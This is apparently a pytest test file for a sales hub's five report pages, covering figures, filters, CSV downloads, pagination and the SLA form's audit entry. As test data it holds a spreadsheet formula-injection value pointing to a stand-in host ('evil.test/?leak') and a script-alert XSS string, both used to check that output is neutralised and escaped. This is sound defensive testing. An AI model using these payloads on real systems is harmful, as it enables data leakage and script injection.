"""The five report pages over a real hub (SQLite and PostgreSQL) holding the hand-built
world of tests/support/report_world.py, whose figures are known: each page shows them,
the filter bar narrows them, every table downloads as CSV with the same filter (formula
cells neutralised), prospects' words are text, and the SLA form changes the setting with
an audit entry."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from datetime import UTC, datetime

import httpx
import pytest
from sqlalchemy import select

from repdesk.hub.admin.settings import sla_hours
from repdesk.hub.db import models as m
from repdesk.hub.embedded import EmbeddedHub
from repdesk.hub.workspace.nav import NAV
from tests.support import report_world
from tests.support.report_world import SCRIPT_WORDS, WORLD

from .conftest import MARKETER_EMAIL, Browser, People
from .html_tables import rows_by_first_cell, tables_of

REPORTS = {
    "lead-quality": "Lead quality",
    "speed-to-lead": "Speed to lead",
    "objections": "Objections",
    "qualification": "Qualification",
    "collateral": "Collateral",
}
FORMULA = '=HYPERLINK("http://evil.test/?leak","Click me")'


@pytest.fixture
def marketer(
    embedded_hub: EmbeddedHub, people: People, browser: Callable[[str], Browser]
) -> Browser:
    with embedded_hub.state.db.write() as session:
        report_world.build(session)
    return browser(MARKETER_EMAIL)


def page(client: httpx.Client, path: str) -> str:
    answer = client.get(path)
    assert answer.status_code == 200, answer.text[:500]
    return answer.text


def download(client: httpx.Client, path: str) -> list[dict[str, str]]:
    answer = client.get(path)
    assert answer.status_code == 200, answer.text[:500]
    assert answer.headers["content-type"].startswith("text/csv")
    assert answer.headers["content-disposition"].startswith("attachment;")
    return list(csv.DictReader(io.StringIO(answer.text.removeprefix("\ufeff"))))


def csv_links(html: str) -> list[str]:
    return [
        link.replace("&amp;", "&")
        for link in re.findall(r'href="(/workspace/reports/[^"]+\.csv[^"]*)"', html)
    ]


def test_every_report_is_in_the_menu_and_renders(marketer: Browser) -> None:
    entries = {e.path: e for e in NAV if e.group == "Reports"}
    for slug, title in REPORTS.items():
        path = f"/workspace/reports/{slug}"
        assert entries[path].label == title
        html = page(marketer, path)
        assert f"<h1>{title}</h1>" in html
        assert f'href="{path}" aria-current="page"' in html
        # The head htmx needs under the CSP; no inline script or style of ours.
        assert '"includeIndicatorStyles": false, "allowEval": false' in html
        assert "<style" not in html and "style=" not in html and "hx-on" not in html
        assert re.findall(r"<script(?![^>]*(?:src=|type=\"application/json\"))", html) == []
        for canvas in re.findall(r"<canvas[^>]*>", html):
            assert 'role="img"' in canvas and "table below" in canvas
        assert all(' scope="col"' in head for head in re.findall(r"<th[ >][^<]*", html))
        assert all('aria-labelledby="' in t for t in re.findall(r"<table[^>]*>", html))
        assert csv_links(html), slug


def test_lead_quality_shows_the_known_figures(marketer: Browser) -> None:
    html = page(marketer, "/workspace/reports/lead-quality")
    by_campaign = rows_by_first_cell(tables_of(html)["lead-quality-by-campaign"])
    spring = by_campaign["Spring webinar"]
    assert spring["Leads assigned"] == "5" and spring["Worked (called at least once)"] == "4"
    assert spring["No verdict yet"] == "2"
    acceptance = next(k for k in spring if k.startswith("Acceptance"))
    assert {k: v[acceptance] for k, v in by_campaign.items()} == {
        "Autumn webinar": "0.0 %",
        "Search ads": "50.0 %",
        "Spring webinar": "33.3 %",
        "(no campaign)": "100.0 %",
    }
    by_source = rows_by_first_cell(tables_of(html)["lead-quality-by-source"])
    assert by_source["Webinar"][acceptance] == "25.0 %"
    reasons = tables_of(html)["lead-quality-disqualified-reasons"]
    assert reasons[1:] == [["student", "2"]]
    # Each chart's data sits beside its table, as JSON.
    assert html.count("data-chart>") == 2


def test_the_filter_narrows_and_travels_into_each_download(marketer: Browser) -> None:
    query = f"?rep={WORLD.ben}"
    html = page(marketer, "/workspace/reports/lead-quality" + query)
    by_campaign = rows_by_first_cell(tables_of(html)["lead-quality-by-campaign"])
    assert {k: v["Leads assigned"] for k, v in by_campaign.items()} == {
        "Search ads": "2",
        "Spring webinar": "2",
    }
    assert f'<option value="{WORLD.ben}" selected>Ben</option>' in html
    links = csv_links(html)
    assert len(links) == 4 and all(link.endswith(query) for link in links)
    rows = download(marketer, "/workspace/reports/lead-quality/by_campaign.csv" + query)
    assert [(r["campaign"], r["assigned"], r["acceptance"]) for r in rows] == [
        ("Search ads", "2", "0.0"),
        ("Spring webinar", "2", "0.0"),
    ]
    monday = page(marketer, "/workspace/reports/lead-quality?start=2026-03-02&end=2026-03-02")
    first_day = rows_by_first_cell(tables_of(monday)["lead-quality-by-campaign"])
    assert list(first_day) == ["Spring webinar"]
    assert 'value="2026-03-02"' in monday
    paid = page(marketer, "/workspace/reports/speed-to-lead?source=Paid+search")
    assert list(rows_by_first_cell(tables_of(paid)["speed-to-lead-by-campaign"])) == ["Search ads"]
    autumn = download(
        marketer,
        f"/workspace/reports/qualification/readiness_by_campaign.csv?campaign={WORLD.autumn}",
    )
    assert [r["campaign"] for r in autumn] == ["Autumn webinar"]


def test_a_bad_filter_is_explained_not_fatal(marketer: Browser) -> None:
    html = page(marketer, "/workspace/reports/lead-quality?start=yesterday&end=2026-03-02")
    assert "is not a date" in html
    backwards = page(marketer, "/workspace/reports/lead-quality?start=2026-03-05&end=2026-03-01")
    assert "starts (2026-03-05) after it ends" in backwards
    # The dates are dropped: every lead is counted.
    assert rows_by_first_cell(tables_of(backwards)["lead-quality-by-campaign"])["Spring webinar"]


def test_speed_to_lead_figures_and_the_over_sla_list(marketer: Browser) -> None:
    html = page(marketer, "/workspace/reports/speed-to-lead")
    by_rep = rows_by_first_cell(tables_of(html)["speed-to-lead-by-rep"])
    assert by_rep["Ann"]["Median hours to first call"] == "3.0"
    assert by_rep["Ben"]["90th percentile hours"] == "46.0"
    assert by_rep["Ben"]["Over the SLA"] == "3"
    assert "within <strong" in html and "24 hours" in html
    over = tables_of(html)["over-sla"]
    assert [r[0] for r in over[1:]] == ["Pat L4", "Pat L11", "Pat L7", "Pat L3"]
    assert "Leads 1–4 of 4" in html
    assert "Lead id" not in over[0]  # ids are for the CSV
    rows = download(marketer, "/workspace/reports/speed-to-lead/over_sla.csv")
    assert [(r["lead_id"], r["status"]) for r in rows] == [
        ("L4", "not called"),
        ("L11", "not called"),
        ("L7", "called late"),
        ("L3", "called late"),
    ]
    assert rows[2]["hours"] == "50.0" and rows[2]["first_call_at"] == "2026-03-12T11:00:00+00:00"


def test_the_over_sla_list_pages(marketer: Browser, monkeypatch: pytest.MonkeyPatch) -> None:
    from repdesk.hub.workspace.pages import speed

    monkeypatch.setattr(speed, "OVER_SLA_PER_PAGE", 3)
    first = page(marketer, "/workspace/reports/speed-to-lead")
    assert [r[0] for r in tables_of(first)["over-sla"][1:]] == ["Pat L4", "Pat L11", "Pat L7"]
    assert "over_page=2#over-sla" in first and 'rel="prev"' not in first
    second = page(marketer, "/workspace/reports/speed-to-lead?over_page=2")
    assert [r[0] for r in tables_of(second)["over-sla"][1:]] == ["Pat L3"]
    assert "Leads 4–4 of 4" in second and 'rel="next"' not in second
    fragment = marketer.get(
        "/workspace/reports/speed-to-lead/over-sla?over_page=2",
        headers={"HX-Request": "true", "HX-Target": "over-sla"},
    )
    assert fragment.status_code == 200 and "<html" not in fragment.text
    assert fragment.headers["HX-Push-Url"] == "/workspace/reports/speed-to-lead?over_page=2"
    assert [r[0] for r in tables_of(fragment.text)["over-sla"][1:]] == ["Pat L3"]


def test_the_sla_form_changes_the_setting_with_an_audit_entry(
    embedded_hub: EmbeddedHub, marketer: Browser
) -> None:
    answer = marketer.post_form(
        f"/workspace/reports/speed-to-lead/sla?rep={WORLD.ben}", {"hours": "40"}
    )
    assert answer.status_code == 303
    assert answer.headers["location"] == f"/workspace/reports/speed-to-lead?rep={WORLD.ben}"
    with embedded_hub.state.db.read() as session:
        assert sla_hours(session) == 40
        entries = session.scalars(select(m.AuditEntry).where(m.AuditEntry.action == "settings.sla"))
        [entry] = entries.all()
    assert entry.actor == MARKETER_EMAIL and entry.detail == {"from": 24, "to": 40}
    shown = page(marketer, answer.headers["location"])
    assert "The SLA is now 40 hours. Reps&#39; apps receive it at their next sync." in shown
    # L3 (30 h) is no longer over a 40-hour SLA.
    assert [r[0] for r in tables_of(shown)["over-sla"][1:]] == ["Pat L4", "Pat L7"]

    for bad in ("0", "abc", "100000", ""):
        refused = marketer.post_form("/workspace/reports/speed-to-lead/sla", {"hours": bad})
        assert refused.status_code == 400, bad
        assert "SLA" in refused.text and 'role="alert"' in refused.text
    with embedded_hub.state.db.read() as session:
        assert sla_hours(session) == 40
        audited = select(m.AuditEntry).where(m.AuditEntry.action == "settings.sla")
        assert len(session.scalars(audited).all()) == 1
    no_token = marketer.post("/workspace/reports/speed-to-lead/sla", data={"hours": "5"})
    assert no_token.status_code == 403


def test_objections_show_words_as_text_and_the_feed_pages(
    marketer: Browser, monkeypatch: pytest.MonkeyPatch
) -> None:
    html = page(marketer, "/workspace/reports/objections")
    assert SCRIPT_WORDS not in html
    assert "&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt; we pay less &amp; like it" in html
    by_category = tables_of(html)["objections-by-category"]
    assert by_category[1:] == [["Price", "4"], ["Competitor", "1"], ["Security", "1"]]
    words = re.findall(r'<blockquote class="verbatim">([^<]*)</blockquote>', html)
    assert words[0] == "Over our budget" and words[-1] == "Too expensive" and len(words) == 6

    from repdesk.hub.workspace.pages import objection_feed

    monkeypatch.setattr(objection_feed, "FEED_PAGE", 4)
    first = page(marketer, "/workspace/reports/objections?category=price")
    words = re.findall(r'<blockquote class="verbatim">([^<]*)</blockquote>', first)
    assert words == [
        "Over our budget",
        "Globex is cheaper",
        "&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt; we pay less &amp; like it",
        "Too expensive",
    ]
    monkeypatch.setattr(objection_feed, "FEED_PAGE", 2)
    first = page(marketer, "/workspace/reports/objections?category=price")
    more = re.search(r'hx-get="(/workspace/reports/objections/feed\?[^"]+)"', first)
    assert more, "no load-more link"
    fragment = marketer.get(more.group(1).replace("&amp;", "&"), headers={"HX-Request": "true"})
    assert fragment.status_code == 200 and "<html" not in fragment.text
    assert (
        re.findall(r'<blockquote class="verbatim">([^<]*)</blockquote>', fragment.text)[1]
        == "Too expensive"
    )
    assert "Load more" not in fragment.text  # the last page
    acme = page(marketer, f"/workspace/reports/objections?competitor=Acme&campaign={WORLD.webinar}")
    assert len(re.findall(r'<blockquote class="verbatim">', acme)) == 2


def test_objection_csv_keeps_words_plain_and_neutralises_formulas(
    embedded_hub: EmbeddedHub, marketer: Browser
) -> None:
    at = datetime(2026, 3, 18, 9, 0, tzinfo=UTC)
    with embedded_hub.state.db.write() as session:
        session.add(
            m.ObjectionRow(
                id="obj-formula",
                lead_id="L8",
                rep_id=WORLD.ann,
                mutation_id="mo-formula",
                category_code="timing",
                verbatim=FORMULA,
                severity=1,
                competitor="",
                created_at=at,
            )
        )
    rows = download(marketer, "/workspace/reports/objections/feed.csv")
    assert [r["objection_id"] for r in rows] == ["obj-formula"] + [
        f"obj-{i}" for i in (6, 5, 4, 3, 2, 1)
    ]
    assert rows[0]["verbatim"] == "'" + FORMULA
    assert rows[0]["created_at"] == at.isoformat()
    script = next(r for r in rows if r["objection_id"] == "obj-2")
    assert script["verbatim"] == SCRIPT_WORDS  # plain text, not escaped
    narrowed = download(
        marketer, "/workspace/reports/objections/feed.csv?category=price&rep=" + WORLD.ben
    )
    assert [r["objection_id"] for r in narrowed] == ["obj-5"]
    html = page(marketer, "/workspace/reports/objections")
    assert "=HYPERLINK(&#34;http://evil.test/?leak&#34;,&#34;Click me&#34;)" in html
    weekly = download(marketer, "/workspace/reports/objections/weekly_by_category.csv")
    assert [r["week"] for r in weekly] == ["2026-W10", "2026-W11", "2026-W12"]
    assert weekly[0]["price"] == "2" and weekly[2]["timing"] == "1"


def test_qualification_and_collateral_show_the_known_figures(marketer: Browser) -> None:
    html = page(marketer, "/workspace/reports/qualification")
    ready = rows_by_first_cell(tables_of(html)["qualification-readiness-by-campaign"])
    assert ready["Search ads"]["Sales-ready ÷ leads"] == "33.3 %"
    assert "Rubric: Reports rubric." in html
    coll = page(marketer, "/workspace/reports/collateral")
    usage = rows_by_first_cell(tables_of(coll)["collateral-use-by-asset"])
    assert (usage["Pricing sheet"]["Shown"], usage["Pricing sheet"]["Sent"]) == ("2", "2")
    assert [r[0] for r in tables_of(coll)["collateral-never-used"][1:]] == ["Case study"]
    rows = download(marketer, "/workspace/reports/collateral/use_by_asset.csv")
    assert rows[0]["asset"] == "Pricing sheet" and rows[0]["collateral_id"] == WORLD.pricing


def test_htmx_gets_the_results_alone_and_unknown_tables_are_404(marketer: Browser) -> None:
    answer = marketer.get(
        f"/workspace/reports/lead-quality?campaign={WORLD.search}",
        headers={"HX-Request": "true", "HX-Target": "report-results"},
    )
    assert answer.status_code == 200
    assert "<html" not in answer.text and '<form class="filter-bar"' not in answer.text
    assert list(rows_by_first_cell(tables_of(answer.text)["lead-quality-by-campaign"])) == [
        "Search ads"
    ]
    restore = marketer.get(
        "/workspace/reports/lead-quality",
        headers={
            "HX-Request": "true",
            "HX-Target": "report-results",
            "HX-History-Restore-Request": "true",
        },
    )
    assert "<html" in restore.text
    assert marketer.get("/workspace/reports/lead-quality/nope.csv").status_code == 404
    assert marketer.get("/workspace/reports/nope/by_campaign.csv").status_code == 404


def test_an_empty_hub_renders_every_report(
    embedded_hub: EmbeddedHub, people: People, browser: Callable[[str], Browser]
) -> None:
    client = browser(MARKETER_EMAIL)
    for slug in REPORTS:
        html = page(client, f"/workspace/reports/{slug}")
        assert "Nothing to show" in html or "No rubric is published" in html, slug
